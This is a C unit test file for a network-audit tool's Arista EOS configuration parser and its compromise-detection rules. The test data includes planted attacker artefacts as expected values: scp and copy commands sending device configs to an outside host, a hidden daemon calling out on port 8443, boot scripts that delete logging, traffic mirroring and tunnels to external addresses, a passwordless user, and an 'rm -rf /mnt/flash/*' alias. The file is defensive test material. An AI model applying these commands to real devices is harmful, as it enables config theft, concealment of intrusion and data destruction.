/*
 * test_eos.c: the Arista EOS parser (lib/parse/eos*.c).
 *
 * Table-driven.  Two fixtures written for this project (data/eos): a clean
 * EOS 4.28 leaf and one with planted AA25-239A artefacts; rows expect a
 * fact of a kind at an exact line with a field value (and, for block
 * fields, the field's own line), and counts per kind.  The built-in rules
 * and indicators are applied to both: the planted one gives each expected
 * compromise finding at its line, the clean one none.  Small inline
 * configurations cover EOF-terminated text, line-ending damage and secret
 * redaction; the public corpus (when present) checks that every Arista
 * file parses without error, with its fact counts per file.
 */
#define _XOPEN_SOURCE 700
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "tidewatch/config.h"
#include "tidewatch/finding.h"
#include "tidewatch/ioc.h"
#include "tidewatch/rules.h"

#include "config_test_util.h"

#define DATA TW_SOURCE_DIR "/tests/unit/data/eos/"
#define CONFIGS TW_CORPUS_DIR "/configs"
#define ANY_LINE CFG_ANY_LINE

typedef struct {
    char *text;
    tw_arena *arena;
    tw_factset fs;
    tw_diags diags;
    tw_err rc;
} parsed;

static void parse_n(parsed *p, const char *cfg, size_t len)
{
    p->arena = tw_arena_new(0);
    assert_non_null(p->arena);
    tw_factset_init(&p->fs, p->arena);
    tw_diags_init(&p->diags);
    p->rc = tw_parse_eos("t.cfg", cfg, len, &p->fs, &p->diags);
}

static void parse_file(parsed *p, const char *path)
{
    size_t len = 0;

    p->text = cfg_slurp(path, &len);
    assert_non_null(p->text);
    parse_n(p, p->text, len);
}

static void done(parsed *p)
{
    tw_diags_release(&p->diags);
    tw_factset_release(&p->fs);
    tw_arena_free(p->arena);
    free(p->text);
    p->text = NULL;
}

static size_t count(const parsed *p, tw_fact_kind kind)
{
    return cfg_count(&p->fs, kind);
}

static bool has(const parsed *p, tw_fact_kind kind, uint32_t line, const char *name,
                const char *value, uint32_t field_line)
{
    return cfg_has(&p->fs, kind, line, name, value, field_line);
}

/* Fails naming the row (its index plus one) when ok is false. */
static void row_ok(size_t i, bool ok)
{
    assert_int_equal((size_t)!ok * (i + 1), 0);
}

/* ---- the fixtures ------------------------------------------------------- */

typedef struct {
    const char *file;
    tw_fact_kind kind;
    uint32_t line;
    const char *field, *value;
    uint32_t field_line;
} fact_row;

#define CLEAN "leaf-clean.cfg"
#define PLANTED "leaf-planted.cfg"

static const fact_row fact_rows[] = {
    {CLEAN, TW_FACT_VERSION, 2, "version", "4.28.3M", 0},
    {CLEAN, TW_FACT_HOSTNAME, 13, "name", "tw-leaf1", 0},
    {CLEAN, TW_FACT_LOCAL_USER, 8, "role", "network-admin", 0},
    {CLEAN, TW_FACT_LOCAL_USER, 8, "privilege", "15", 0},
    {CLEAN, TW_FACT_LOCAL_USER, 8, "secret_type", "10", 0},
    {CLEAN, TW_FACT_SECRET, 11, "owner", "enable", 0},
    {CLEAN, TW_FACT_SECRET, 11, "form", "secret", 0},
    {CLEAN, TW_FACT_SECRET, 19, "owner", "tacacs 10.10.0.49", 0},
    {CLEAN, TW_FACT_SECRET, 19, "type", "7", 0},
    {CLEAN, TW_FACT_SECRET, 78, "owner", "bgp", 0},
    {CLEAN, TW_FACT_NTP_SERVER, 16, "address", "10.10.0.123", 0},
    {CLEAN, TW_FACT_NTP_SERVER, 16, "vrf", "MGMT", 0},
    {CLEAN, TW_FACT_AAA_SERVER, 19, "vrf", "MGMT", 0},
    {CLEAN, TW_FACT_AAA_SERVER, 19, "key_type", "7", 0},
    {CLEAN, TW_FACT_AAA_SERVER, 22, "group", "TACGRP", 0},
    {CLEAN, TW_FACT_AAA_METHOD, 24, "method", "group TACGRP", 0},
    {CLEAN, TW_FACT_AAA_METHOD, 28, "service", "commands", 0},
    {CLEAN, TW_FACT_AAA_METHOD, 28, "record", "start-stop", 0},
    {CLEAN, TW_FACT_LOGGING_HOST, 30, "vrf", "MGMT", 0},
    {CLEAN, TW_FACT_LOGGING, 31, "setting", "source-interface", 0},
    {CLEAN, TW_FACT_SNMP_COMMUNITY, 33, "acl", "SNMP-MGRS", 0},
    {CLEAN, TW_FACT_SNMP_HOST, 34, "version", "2c", 0},
    {CLEAN, TW_FACT_INTERFACE, 43, "address", "10.0.1.1", 46},
    {CLEAN, TW_FACT_INTERFACE, 55, "vrf", "MGMT", 56},
    {CLEAN, TW_FACT_INTERFACE, 55, "address", "10.10.1.11", 57},
    {CLEAN, TW_FACT_ACL_ENTRY, 63, "src", "10.10.0.161", 0},
    {CLEAN, TW_FACT_ACL_ENTRY, 66, "dst_port", "eq ssh", 0},
    {CLEAN, TW_FACT_ACL_ENTRY, 67, "src_port", "eq ntp", 0},
    {CLEAN, TW_FACT_ROUTE, 73, "next_hop", "10.10.1.1", 0},
    {CLEAN, TW_FACT_SERVICE, 81, "name", "https", 0},
    {CLEAN, TW_FACT_SERVICE, 81, "vrf", "MGMT", 86},
    {CLEAN, TW_FACT_SERVICE, 88, "name", "ssh", 0},
    {CLEAN, TW_FACT_SERVICE, 88, "enabled", "true", 92},
    {CLEAN, TW_FACT_SERVICE, 88, "acl", "MGMT-IN", 89},
    {CLEAN, TW_FACT_SERVICE, 88, "idle_timeout", "15", 90},
    {PLANTED, TW_FACT_LOCAL_USER, 5, "name", "supp0rt", 0},
    {PLANTED, TW_FACT_LOCAL_USER, 5, "secret_type", "0", 0},
    {PLANTED, TW_FACT_LOCAL_USER, 6, "form", "nopassword", 0},
    {PLANTED, TW_FACT_AAA_SERVER, 11, "address", "45.61.133.61", 0},
    {PLANTED, TW_FACT_AAA_SERVER, 11, "key_type", "0", 0},
    {PLANTED, TW_FACT_AAA_SERVER, 15, "address", "45.61.133.61", 0},
    {PLANTED, TW_FACT_LOGGING_HOST, 20, "port", "514", 0},
    {PLANTED, TW_FACT_LOGGING_HOST, 20, "transport", "tcp", 0},
    {PLANTED, TW_FACT_LOGGING_HOST, 21, "address", "45.61.133.31", 0},
    {PLANTED, TW_FACT_NTP_SERVER, 23, "address", "45.61.133.31", 0},
    {PLANTED, TW_FACT_SNMP_COMMUNITY, 25, "access", "rw", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 28, "source", "Ethernet1 both", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 29, "type", "erspan", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 29, "id", "TAP", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 29, "destination", "45.61.133.61", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 29, "tunnel_source", "10.0.255.2", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 31, "destination", "Ethernet48", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 31, "id", "2", 0},
    {PLANTED, TW_FACT_TUNNEL, 41, "destination", "45.61.133.77", 47},
    {PLANTED, TW_FACT_TUNNEL, 41, "source", "10.0.255.2", 46},
    {PLANTED, TW_FACT_TUNNEL, 41, "mode", "gre", 45},
    {PLANTED, TW_FACT_INTERFACE, 41, "address", "172.31.255.1", 44},
    {PLANTED, TW_FACT_ACL_ENTRY, 51, "src", "45.61.133.61", 0},
    {PLANTED, TW_FACT_ACL_ENTRY, 52, "src", "45.61.133.0/24", 0},
    {PLANTED, TW_FACT_ACL_ENTRY, 56, "src", "45.61.133.77", 0},
    {PLANTED, TW_FACT_ROUTE, 58, "next_hop", "45.61.133.61", 0},
    {PLANTED, TW_FACT_SCRIPT, 60, "type", "event-handler", 0},
    {PLANTED, TW_FACT_SCRIPT, 60, "event", "on-boot", 61},
    {PLANTED, TW_FACT_SCRIPT, 60, "action",
     "FastCli -p 15 -c \"configure terminal\" -c \"no logging host 10.10.0.51\"", 62},
    {PLANTED, TW_FACT_SCRIPT, 65, "action", "scp /mnt/flash/startup-config root@45.61.133.31:/tmp/",
     68},
    {PLANTED, TW_FACT_SCRIPT, 65, "action", "FastCli -p 15 -c \"clear logging\"", 69},
    {PLANTED, TW_FACT_SCRIPT, 72, "type", "daemon", 0},
    {PLANTED, TW_FACT_SCRIPT, 72, "action",
     "/mnt/flash/.hidden/syncd -c 45.61.133.31:8443 <redacted>", 73},
    {PLANTED, TW_FACT_SCRIPT, 76, "action", "copy running-config scp://root@45.61.133.31/r.cfg", 0},
    {PLANTED, TW_FACT_SERVICE, 78, "port", "18443", 80},
    {PLANTED, TW_FACT_SERVICE, 78, "enabled", "true", 81},
    {PLANTED, TW_FACT_SERVICE, 79, "name", "http", 0},
    {PLANTED, TW_FACT_SERVICE, 83, "name", "telnet", 0},
    {PLANTED, TW_FACT_SERVICE, 83, "enabled", "true", 84},
    {PLANTED, TW_FACT_SERVICE, 86, "enabled", "true", 0},
    {PLANTED, TW_FACT_ADDRESS, 58, "value", "45.61.133.61", ANY_LINE},
};

static void test_fixture_facts(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(fact_rows) / sizeof(fact_rows[0]); i++) {
        const fact_row *r = &fact_rows[i];
        char path[512];
        parsed p = {0};
        snprintf(path, sizeof(path), DATA "%s", r->file);
        parse_file(&p, path);
        assert_int_equal(p.rc, TW_OK);
        row_ok(i, has(&p, r->kind, r->line, r->field, r->value, r->field_line));
        done(&p);
    }
}

typedef struct {
    const char *file;
    tw_fact_kind kind;
    size_t n;
} count_row;

static const count_row count_rows[] = {
    {CLEAN, TW_FACT_LOCAL_USER, 2},       {CLEAN, TW_FACT_SECRET, 5},
    {CLEAN, TW_FACT_AAA_SERVER, 2},       {CLEAN, TW_FACT_AAA_METHOD, 5},
    {CLEAN, TW_FACT_INTERFACE, 5},        {CLEAN, TW_FACT_TUNNEL, 0},
    {CLEAN, TW_FACT_ACL_ENTRY, 4},        {CLEAN, TW_FACT_SERVICE, 2},
    {CLEAN, TW_FACT_MIRROR_SESSION, 0},   {CLEAN, TW_FACT_SCRIPT, 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 4}, {PLANTED, TW_FACT_TUNNEL, 1},
    {PLANTED, TW_FACT_SCRIPT, 4},         {PLANTED, TW_FACT_SERVICE, 4},
    {PLANTED, TW_FACT_LOGGING_HOST, 3},   {PLANTED, TW_FACT_AAA_SERVER, 4},
    {PLANTED, TW_FACT_LOCAL_USER, 3},     {PLANTED, TW_FACT_VERSION, 1},
};

static void test_fixture_counts(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(count_rows) / sizeof(count_rows[0]); i++) {
        char path[512];
        parsed p = {0};
        snprintf(path, sizeof(path), DATA "%s", count_rows[i].file);
        parse_file(&p, path);
        assert_int_equal(p.diags.n, 0);
        assert_int_equal(count(&p, count_rows[i].kind), count_rows[i].n);
        done(&p);
    }
}

/* ---- rules on the fixtures -------------------------------------------- */

typedef struct {
    const char *rule;
    uint32_t line;
} finding_row;

static const finding_row planted_findings[] = {
    {"TW-AA-IOC-AAA", 11},      {"TW-AA-IOC-AAA", 15},           {"TW-AA-IOC-LOGGING", 20},
    {"TW-AA-IOC-LOGGING", 21},  {"TW-AA-IOC-NTP", 23},           {"TW-AA-SNMP-RW", 25},
    {"TW-AA-IOC-SNMP", 26},     {"TW-AA-IOC-MIRROR", 29},        {"TW-AA-MIRROR-PUBLIC", 29},
    {"TW-AA-IOC-TUNNEL", 47},   {"TW-AA-TUNNEL-PUBLIC", 47},     {"TW-AA-IOC-ACL", 51},
    {"TW-AA-IOC-ACL", 52},      {"TW-AA-IOC-ACL", 56},           {"TW-AA-IOC-ROUTE", 58},
    {"TW-AA-SCRIPT-EXFIL", 76}, {"TW-AA-HTTP-PORT-PATTERN", 80},
    {"TW-AA-SCRIPT-LOGGING", 62}, {"TW-AA-SCRIPT-LOGGING", 69},
};

typedef struct {
    tw_ruleset *rs;
    tw_iocset *iocs;
    tw_findings fl;
    parsed p;
} audited;

static void audit(audited *a, const char *file)
{
    tw_rule_env env;

    memset(a, 0, sizeof(*a));
    a->rs = tw_ruleset_new();
    a->iocs = tw_iocset_new();
    assert_non_null(a->rs);
    assert_non_null(a->iocs);
    parse_file(&a->p, file);
    assert_int_equal(tw_ruleset_load_builtin(a->rs, &a->p.diags), TW_OK);
    assert_int_equal(tw_ruleset_finish(a->rs, &a->p.diags), TW_OK);
    assert_int_equal(tw_iocset_add_builtin(a->iocs), TW_OK);
    assert_int_equal(tw_iocset_finish(a->iocs), TW_OK);
    env = (tw_rule_env){.iocs = a->iocs, .policy = NULL};
    tw_findings_init(&a->fl, a->p.arena);
    assert_int_equal(tw_rules_apply(a->rs, &env, file, &a->p.fs, &a->fl), TW_OK);
}

static void unaudit(audited *a)
{
    tw_findings_release(&a->fl);
    done(&a->p);
    tw_iocset_free(a->iocs);
    tw_ruleset_free(a->rs);
}

static size_t compromise(const tw_findings *fl, const char *rule, uint32_t line)
{
    size_t n = 0;

    for (size_t i = 0; i < fl->n; i++) {
        const tw_finding *f = &fl->v[i];
        n += f->category == TW_CAT_COMPROMISE && (rule == NULL || strcmp(f->rule, rule) == 0) &&
             (line == ANY_LINE || f->line == line);
    }
    return n;
}

static void test_rules_planted(void **state)
{
    audited a;

    (void)state;
    audit(&a, DATA PLANTED);
    for (size_t i = 0; i < sizeof(planted_findings) / sizeof(planted_findings[0]); i++)
        assert_int_equal(compromise(&a.fl, planted_findings[i].rule, planted_findings[i].line), 1);
    assert_int_equal(compromise(&a.fl, NULL, ANY_LINE),
                     sizeof(planted_findings) / sizeof(planted_findings[0]));
    unaudit(&a);
}

static void test_rules_clean(void **state)
{
    audited a;

    (void)state;
    audit(&a, DATA CLEAN);
    assert_int_equal(compromise(&a.fl, NULL, ANY_LINE), 0);
    assert_true(a.fl.n > 0); /* hardening findings remain: the SNMP community */
    unaudit(&a);
}

/* ---- inline configurations -------------------------------------------- */

typedef struct {
    const char *cfg;
    tw_fact_kind kind;
    uint32_t line;
    const char *field, *value;
    uint32_t field_line;
} inline_row;

static const inline_row inline_rows[] = {
    /* text that ends with EOF is skipped or read as bash */
    {"banner login\nhostname evil\nEOF\nhostname r1\n", TW_FACT_HOSTNAME, 4, "name", "r1", 0},
    {"interface Ethernet1\n   comment\n   ip address 1.1.1.1/24\n   EOF\n   ip address "
     "2.2.2.2/24\n",
     TW_FACT_INTERFACE, 1, "address", "2.2.2.2", 5},
    {"event-handler H\n   action bash\n      echo hi\n      EOF\n   trigger on-boot\n",
     TW_FACT_SCRIPT, 1, "event", "on-boot", 5},
    {"event-handler H\n   action bash\n      echo hi\n      EOF\n", TW_FACT_SCRIPT, 1, "action",
     "echo hi", 3},
    /* line endings, BOM, NUL bytes, no final newline */
    {"\xEF\xBB\xBFhostname r1\r\nntp server 192.0.2.1\r\n", TW_FACT_NTP_SERVER, 2, "address",
     "192.0.2.1", 0},
    {"logging host 192.0.2.9", TW_FACT_LOGGING_HOST, 1, "address", "192.0.2.9", 0},
    /* statements */
    {"ip route 10.0.0.0 255.0.0.0 192.0.2.1\n", TW_FACT_ROUTE, 1, "prefix", "10.0.0.0/8", 0},
    {"ip route 10.1.0.0/16 Null0\n", TW_FACT_ROUTE, 1, "interface", "Null0", 0},
    {"ipv6 route 2001:db8::/32 2001:db8::1\n", TW_FACT_ROUTE, 1, "next_hop", "2001:db8::1", 0},
    {"ipv6 access-list V6\n   10 permit ipv6 2001:db8::/32 any\n", TW_FACT_ACL_ENTRY, 2, "family",
     "ipv6", 0},
    {"radius-server host 192.0.2.7 vrf M auth-port 1812 key 8a ABCD\n", TW_FACT_AAA_SERVER, 1,
     "key_type", "6", 0},
    {"radius-server host 192.0.2.7 key 8a ABCD\n", TW_FACT_SECRET, 1, "type", "6", 0},
    {"aaa root secret sha512 $6$x$y\n", TW_FACT_SECRET, 1, "owner", "root", 0},
    {"username u sshkey ssh-rsa AAAAB3 u@h\n", TW_FACT_LOCAL_USER, 1, "form", "sshkey", 0},
    {"username u privilege 15 secret plaintext\n", TW_FACT_SECRET, 1, "type", "0", 0},
    {"enable password 7 ABCDEF\n", TW_FACT_SECRET, 1, "form", "password", 0},
    {"ntp authentication-key 1 md5 7 0011\n", TW_FACT_SECRET, 1, "type", "7", 0},
    {"snmp-server user U G v3 auth sha AUTHK priv aes PRIVK\n", TW_FACT_SNMP_USER, 1, "priv", "aes",
     0},
    {"alias wipe bash rm -rf /mnt/flash/*\n", TW_FACT_SCRIPT, 1, "action",
     "bash rm -rf /mnt/flash/*", 0},
    {"management api gnmi\n   transport grpc default\n", TW_FACT_SERVICE, 1, "name", "gnmi", 0},
    {"management telnet\n   idle-timeout 5\n", TW_FACT_SERVICE, 1, "enabled", "false", 0},
    {"management ssh\n   shutdown\n", TW_FACT_SERVICE, 1, "enabled", "false", 2},
    {"interface Tunnel1\n   tunnel source interface Loopback0\n", TW_FACT_TUNNEL, 1, "source",
     "Loopback0", 2},
    {"interface Tunnel1\n   tunnel destination 203.0.113.5\n", TW_FACT_TUNNEL, 1, "mode", "gre", 0},
    {"interface Ethernet1\n   shutdown\n", TW_FACT_INTERFACE, 1, "shutdown", "true", 0},
    {"router bgp 1\n   neighbor 192.0.2.1 password 7 ABC\n", TW_FACT_SECRET, 2, "owner", "bgp", 0},
    {"monitor session 1 destination tunnel mode gre source 10.0.0.1 destination 192.0.2.8 vrf "
     "V\n",
     TW_FACT_MIRROR_SESSION, 1, "vrf", "V", 0},
};

static void test_inline(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(inline_rows) / sizeof(inline_rows[0]); i++) {
        const inline_row *r = &inline_rows[i];
        parsed p = {0};
        parse_n(&p, r->cfg, strlen(r->cfg));
        assert_int_equal(p.rc, TW_OK);
        row_ok(i, has(&p, r->kind, r->line, r->field, r->value, r->field_line));
        done(&p);
    }
}

/* NUL bytes inside a line are dropped. */
static void test_nul(void **state)
{
    static const char cfg[] = "host\0name r1\nntp server 192.0.\0002.1\n";
    parsed p = {0};

    (void)state;
    parse_n(&p, cfg, sizeof(cfg) - 1);
    assert_true(has(&p, TW_FACT_HOSTNAME, 1, "name", "r1", 0));
    assert_true(has(&p, TW_FACT_NTP_SERVER, 2, "address", "192.0.2.1", 0));
    done(&p);
}

/* ---- secrets ------------------------------------------------------------- */

static const char secret_cfg[] = "username a secret sha512 $6$SALT$HASHONE\n"
                                 "username b privilege 15 secret 0 PLAINTWO\n"
                                 "enable password sha512 $6$SALT$HASHTHREE\n"
                                 "tacacs-server host 192.0.2.1 key 0 KEY FOUR\n"
                                 "tacacs-server key 7 KEYFIVE\n"
                                 "snmp-server community COMMSIX rw\n"
                                 "snmp-server host 192.0.2.2 vrf M version 2c COMMSEVEN\n"
                                 "snmp-server user u g v3 auth sha AUTHEIGHT priv aes PRIVNINE\n"
                                 "ntp authentication-key 3 md5 7 NTPTEN\n"
                                 "daemon T\n"
                                 "   exec /usr/bin/TerminAttr -cvauth=key,TOKENELEVEN -x\n"
                                 "router bgp 1\n"
                                 "   neighbor P password 7 BGPTWELVE\n"
                                 "interface Ethernet1\n"
                                 "   ip ospf authentication-key 7 OSPFTHIRTEEN\n"
                                 "   vrrp 1 authentication text VRRPFOURTEEN\n"
                                 "event-handler E\n"
                                 "   action bash\n"
                                 "      curl --password FIFTEEN http://x\n"
                                 "      EOF\n";

static const char *const secret_words[] = {
    "HASHONE",     "PLAINTWO",  "HASHTHREE",    "FOUR",         "KEYFIVE",
    "COMMSIX",     "COMMSEVEN", "AUTHEIGHT",    "PRIVNINE",     "NTPTEN",
    "TOKENELEVEN", "BGPTWELVE", "OSPFTHIRTEEN", "VRRPFOURTEEN", "FIFTEEN",
};

static bool contains(tw_str s, const char *w)
{
    return tw_str_find(s, tw_str_c(w)) >= 0;
}

static void test_secrets_redacted(void **state)
{
    parsed p = {0};
    size_t seen = 0;

    (void)state;
    parse_n(&p, secret_cfg, strlen(secret_cfg));
    for (size_t i = 0; i < p.fs.n; i++) {
        const tw_fact *f = &p.fs.v[i];
        for (size_t w = 0; w < sizeof(secret_words) / sizeof(secret_words[0]); w++) {
            assert_false(contains(f->evidence, secret_words[w]));
            for (uint32_t k = 0; k < f->nfields; k++) {
                assert_false(contains(f->fields[k].str, secret_words[w]));
                assert_false(contains(f->fields[k].evidence, secret_words[w]));
            }
        }
        seen += f->kind == TW_FACT_SECRET;
    }
    assert_int_equal(seen, 9);
    assert_int_equal(count(&p, TW_FACT_SNMP_COMMUNITY), 1);
    done(&p);
}

/* ---- hostile input -------------------------------------------------------- */

static void test_hostile(void **state)
{
    size_t n = 300000;
    char *big = malloc(n);
    parsed p = {0};

    (void)state;
    assert_non_null(big);
    for (size_t i = 0; i < n; i++)
        big[i] = (char)(i % 7 == 0 ? '\n' : i % 5 == 0 ? ' ' : "ip route/:.0a!"[i % 14]);
    parse_n(&p, big, n);
    assert_int_equal(p.rc, TW_OK);
    done(&p);
    memset(big, ' ', n); /* deep indentation, then text past the depth limit */
    for (size_t i = 0; i < 100; i++) {
        big[i * 200 + i] = 'x';
        big[i * 200 + i + 1] = '\n';
    }
    parse_n(&p, big, n);
    assert_int_equal(p.rc, TW_OK);
    assert_int_equal(p.fs.n, 0);
    done(&p);
    free(big);
}

/* ---- the public corpus ---------------------------------------------------- */

typedef struct {
    const char *path; /* under configs/ */
    size_t facts, addresses, secrets;
} corpus_row;

/* Observed fact counts (regenerate when the parser changes on purpose). */
static const corpus_row corpus_rows[] = {
    {"batfish-example/aristaevpn/DC1-L2LEAF4A.cfg", 19, 5, 2},
    {"batfish-example/aristaevpn/DC1-LEAF2A.cfg", 95, 46, 5},
    {"batfish-example/aristaevpn/DC1-SPINE1.cfg", 65, 44, 4},
    {"batfish-example/aristaevpn/DC1-SVC3A.cfg", 77, 37, 5},
    {"batfish-example/snmp_communities_clients/arista", 4, 1, 0},
    {"batfish-unit/arista-event-handler", 2, 0, 0},
    {"batfish-unit/arista-logging", 2, 0, 0},
    {"batfish-unit/arista_acl", 6, 2, 0},
    {"batfish-unit/arista_interface", 7, 5, 0},
    {"batfish-unit/arista_misc", 13, 4, 0},
    {"batfish-unit/arista_username", 6, 0, 3},
    {"batfish-unit/eos_mlag", 5, 2, 0},
};

/* An Arista configuration, told by content. */
static bool is_arista(const char *data, size_t len)
{
    static const char *const marks[] = {"RANCID-CONTENT-TYPE: arista",
                                        "EOS-4",
                                        "daemon TerminAttr",
                                        "\nevent-handler ",
                                        "management api http-commands",
                                        "timestamp high-resolution"};
    tw_str s = tw_str_make(data, len);

    for (size_t i = 0; i < sizeof(marks) / sizeof(marks[0]); i++) {
        if (tw_str_find(s, tw_str_c(marks[i])) >= 0)
            return true;
    }
    return false;
}

static const corpus_row *corpus_find(const char *rel)
{
    for (size_t i = 0; i < sizeof(corpus_rows) / sizeof(corpus_rows[0]); i++) {
        if (strcmp(corpus_rows[i].path, rel) == 0)
            return &corpus_rows[i];
    }
    return NULL;
}

static void corpus_file(const char *path, const char *rel, size_t *found)
{
    size_t len = 0;
    char *data = cfg_slurp(path, &len);
    const corpus_row *want;
    parsed p = {0};

    assert_non_null(data);
    if (!is_arista(data, len)) {
        free(data);
        return;
    }
    want = corpus_find(rel);
    print_message("%s: found\n", rel);
    assert_non_null(want);
    parse_n(&p, data, len);
    print_message("    {\"%s\", %zu, %zu, %zu},\n", rel, p.fs.n, count(&p, TW_FACT_ADDRESS),
                  count(&p, TW_FACT_SECRET));
    assert_int_equal(p.rc, TW_OK);
    assert_int_equal(p.diags.n, 0);
    assert_int_equal(p.fs.n, want->facts);
    assert_int_equal(count(&p, TW_FACT_ADDRESS), want->addresses);
    assert_int_equal(count(&p, TW_FACT_SECRET), want->secrets);
    assert_int_equal(count(&p, TW_FACT_HOSTNAME), 1);
    (*found)++;
    done(&p);
    free(data);
}

static int by_name(const struct dirent **a, const struct dirent **b)
{
    return strcmp((*a)->d_name, (*b)->d_name);
}

static void corpus_walk(const char *dir, const char *rel, bool recurse, size_t *found)
{
    struct dirent **names = NULL;
    int n = scandir(dir, &names, NULL, by_name);

    for (int i = 0; i < n; i++) {
        char path[4096], sub[1024];
        struct stat st;
        snprintf(path, sizeof(path), "%s/%s", dir, names[i]->d_name);
        snprintf(sub, sizeof(sub), "%s/%s", rel, names[i]->d_name);
        if (names[i]->d_name[0] != '.' && stat(path, &st) == 0) {
            if (S_ISDIR(st.st_mode) && recurse)
                corpus_walk(path, sub, true, found);
            else if (S_ISREG(st.st_mode))
                corpus_file(path, sub, found);
        }
        free(names[i]);
    }
    free(names);
}

static void test_corpus(void **state)
{
    struct stat st;
    size_t found = 0;

    (void)state;
    if (stat(CONFIGS, &st) != 0) {
        skip();
    }
    corpus_walk(CONFIGS "/batfish-example", "batfish-example", true, &found);
    corpus_walk(CONFIGS "/batfish-unit", "batfish-unit", false, &found);
    assert_int_equal(found, sizeof(corpus_rows) / sizeof(corpus_rows[0]));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_fixture_facts),    cmocka_unit_test(test_fixture_counts),
        cmocka_unit_test(test_rules_planted),    cmocka_unit_test(test_rules_clean),
        cmocka_unit_test(test_inline),           cmocka_unit_test(test_nul),
        cmocka_unit_test(test_secrets_redacted), cmocka_unit_test(test_hostile),
        cmocka_unit_test(test_corpus),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
